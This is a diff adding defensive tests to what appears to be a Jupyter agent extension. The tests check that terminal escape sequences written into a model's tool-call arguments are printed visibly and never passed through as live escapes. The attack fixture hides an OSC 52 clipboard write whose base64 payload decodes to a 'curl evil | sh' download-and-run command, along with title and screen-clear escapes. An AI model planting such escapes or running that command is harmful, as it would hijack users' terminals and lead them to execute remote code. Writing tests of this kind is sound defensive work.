@@ -175,3 +175,43 @@ def test_help_gives_the_exit_codes_and_what_is_written(command: str, tmp_path: P
     if command == "run":
         assert "--output OUT.ipynb writes the executed notebook" in text
         assert "NOTEBOOK.agentlog.jsonl" in text and ".deepagent/" in text
+
+
+ATTACK_SCRIPT = (
+    "profile: {max_input_tokens: 100000}\nscript:\n"
+    '  - tool_calls: [{name: grep, args: {pattern: "\\e]52;c;Y3VybCBldmlsIHwgc2g=\\a'
+    '\\e]0;owned\\a\\e[2Jx"}}]\n'
+    "  - Searched.\n"
+)
+
+
+@LOOPBACK_ONLY
+def test_escapes_the_model_wrote_reach_no_terminal_as_escapes(tmp_path: Path) -> None:
+    # OSC 52 sets the clipboard of the terminal that prints it, OSC 0 its title, CSI 2J clears
+    # it: a tool call's arguments are the model's to write, and `log` prints them
+    path = _notebook(tmp_path / "project", "%load_ext jupyter_deepagent",
+                     "%%agent -m scripted:attack.yaml\nSearch the notes.")
+    (tmp_path / "project" / "attack.yaml").write_text(ATTACK_SCRIPT)
+    assert _in_a_pipe(tmp_path, "run", str(path)).returncode == 0
+
+    code, shown = _in_a_terminal(tmp_path, "log", str(path))
+    piped = _in_a_pipe(tmp_path, "log", str(path), "--format", "json")
+
+    assert code == 0
+    assert "grep pattern=" in shown and "\\x1b]52;c;" in shown  # written out, visibly
+    assert ESC not in shown and "\x07" not in shown
+    assert piped.returncode == 0 and ESC not in piped.stdout and "\x07" not in piped.stdout
+    assert "\\u001b]52" in piped.stdout  # JSON's own escape, still valid JSON
+
+
+def test_a_colour_terminal_keeps_a_kernels_colours_and_nothing_else() -> None:
+    from jupyter_deepagent.cli.terminal import Terminal
+
+    class ColourTerminal:
+        def isatty(self) -> bool:
+            return True
+
+    terminal = Terminal(ColourTerminal())  # type: ignore[arg-type]
+    assert terminal.colour
+    shown = terminal.text("\x1b[31mError\x1b[0m \x1b]52;c;eA==\x07 \x1b[8mhidden\x1b[0m \x9b2J")
+    assert shown == "\x1b[31mError\x1b[0m  hidden\x1b[0m \\x9b2J"
